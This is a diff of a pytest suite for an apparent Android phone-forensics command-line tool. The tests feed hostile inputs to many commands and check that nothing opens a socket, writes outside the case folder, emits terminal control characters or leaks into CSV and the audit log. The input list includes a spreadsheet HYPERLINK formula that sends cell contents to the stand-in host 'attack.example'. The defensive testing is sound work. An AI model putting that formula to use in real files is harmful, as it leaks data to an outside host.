@@ -26,6 +26,8 @@ CONTACTS = "data/data/com.android.providers.contacts/databases/contacts2.db"
 CALLS = "data/data/com.android.providers.contacts/databases/calllog.db"
 PARTS = "data/user_de/0/com.android.providers.telephony/app_parts"
 SECRET = "attack.example"
+REFUSED = {"joined": (2,), "nowhere": (11,), "no option": (2,)}
+"""Commands that end with one line of error, which repeats what it was given or found; with their exit status."""
 ATTACKS = (
     f'=HYPERLINK("http://{SECRET}/?"&A1,"click")',
     "+1+1",
@@ -142,6 +144,21 @@ def done(phone, tmp_path_factory) -> tuple[Path, dict[str, str], list[tuple[str,
         "jsonl": ("timeline", folder, "--jsonl"),
         "search": ("search", folder, "alert"),
         "people": ("people", "list", folder),
+        "joined": ("people", "join", folder, ATTACKS[11], "+12025550143", "--why", ATTACKS[11]),
+        "links": ("links", folder, "--csv", folder / "links.csv"),
+        "duplicates": ("duplicates", folder, "--items"),
+        "leads": ("leads", folder),
+        "clocks": ("clocks", folder, "--placed"),
+        "meetings": ("meetings", folder),
+        "tagged": ("tag", "add", folder, ATTACKS[11], "1"),
+        "tags": ("tag", "list", folder),
+        "selected": ("select", "add", folder, ATTACKS[11], "12"),
+        "selections": ("select", "list", folder),
+        "noted": ("note", folder, "1", ATTACKS[11]),
+        "notes": ("note", folder),
+        "recovered": ("recover", phone.with_suffix("") / SMS, "--full"),
+        "nowhere": ("info", phone.with_name(ATTACKS[11])),
+        "no option": ("timeline", folder, "--limit", ATTACKS[11]),
         "html": ("map", folder, "--format", "html"),
         "gpx": ("map", folder, "--format", "gpx"),
         "geojson": ("map", folder, "--format", "geojson"),
@@ -150,7 +167,7 @@ def done(phone, tmp_path_factory) -> tuple[Path, dict[str, str], list[tuple[str,
         "verify": ("verify", folder, "--exhibit", f"E1={phone}"),
     }.items():
         run = watch.phonefx(*arguments)
-        assert run.status in (0, 3), (name, run.printed)
+        assert run.status in (REFUSED.get(name) or (0, 3)), (name, run.printed)
         assert "Traceback" not in run.printed
         printed[name] = run.printed
         seen += [(name, *event) for event in run.events]
@@ -176,7 +193,7 @@ def test_nothing_ran_and_nothing_opened_a_socket(done):
 def test_nothing_was_written_outside_the_case(done, phone):
     folder, _, seen = done
     outside = {(name, what) for name, _, what in seen if not Path(what).is_relative_to(folder)}
-    assert {name for name, _ in outside} <= {"info", "trace"}, "only what has no case, or may not write to it"
+    assert {name for name, _ in outside} <= {"info", "nowhere", "trace"}, "what may not write to a case"
     assert [what for _, what in outside if Path(what).exists()] == []
     assert not list(phone.parents[2].rglob("escape*"))
     names = {path.name for path in folder.rglob("*")}
@@ -191,12 +208,21 @@ def test_a_view_is_no_table(done):
     assert found[0][0] not in ("items", "not found")
 
 
-@pytest.mark.parametrize(
-    "name", ["process", "info", "timeline", "search", "people", "report", "trace", "verify", "jsonl"]
-)
-def test_the_terminal_gets_no_control_character(done, name):
+def test_the_terminal_gets_no_control_character(done):
     harmful = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
-    assert harmful.findall(done[1][name]) == []
+    assert len(done[1]) >= 25
+    assert {name: harmful.findall(text.replace("\r\n", "\n")) for name, text in done[1].items() if name != "csv"} == {
+        name: [] for name in done[1] if name != "csv"
+    }
+    assert "owned" in done[1]["joined"]
+    assert "owned" in done[1]["selected"]
+
+
+def test_one_absurd_name_does_not_push_a_table_apart(done):
+    for name in ("people", "links"):
+        lines = done[1][name].splitlines()
+        assert len(lines) > 5
+        assert sum(len(line) > 2000 for line in lines) <= 3, "the name itself, once or twice"
 
 
 def test_csv_holds_no_formula(done):
@@ -277,7 +303,8 @@ def test_the_pdf_does_nothing(done):
 
 def test_the_log_holds_no_message(done):
     log = (done[0] / "audit.jsonl").read_text(encoding="utf-8")
-    for attack in ATTACKS[1:5] + ATTACKS[6:]:
+    typed = (0, 5, 11)  # what the examiner gave as case number, as name, as tag
+    for attack in (each for number, each in enumerate(ATTACKS) if number not in typed):
         assert json.dumps(attack)[1:-1] not in log
         assert attack not in log
 
